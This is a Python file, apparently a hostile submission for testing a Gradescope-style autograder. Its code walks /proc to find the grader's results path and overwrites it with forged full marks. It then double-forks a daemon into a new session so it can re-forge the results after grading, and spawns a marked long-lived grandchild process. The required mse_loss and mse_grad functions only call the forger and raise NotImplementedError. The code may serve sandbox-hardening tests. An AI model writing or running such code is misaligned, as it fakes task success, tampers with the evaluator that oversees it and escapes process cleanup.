"""Finds the grader's results file (from its command line, and the usual Gradescope and
working-directory names), writes full marks there, and leaves a daemon behind — in a
new session, outside the process group — to write them again after the grader is done.
Also starts a long-running grandchild tagged HOSTILE-GRANDCHILD-MARKER."""

import json
import os
import subprocess
import sys
import time

FAKE = json.dumps({"score": 13.0, "max_score": 13.0, "execution_time": 0.1,
                   "output": "forged", "tests": []})


def targets():
    found = ["results.json", "/autograder/results/results.json"]
    pid = os.getppid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = f.read().split(b"\0")
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
        for i, a in enumerate(argv[:-1]):
            if a == b"--json":
                found.append(argv[i + 1].decode())
    return found


def forge():
    for path in targets():
        if path.startswith("/autograder") and not os.path.isdir("/autograder"):
            continue
        try:
            with open(path, "w") as f:
                f.write(FAKE)
        except OSError:
            pass


forge()
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)",
                  "HOSTILE-GRANDCHILD-MARKER"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(8):
            time.sleep(0.5)
            forge()
    os._exit(0)


def mse_loss(pred, target):
    forge()
    raise NotImplementedError


def mse_grad(pred, target):
    forge()
    raise NotImplementedError
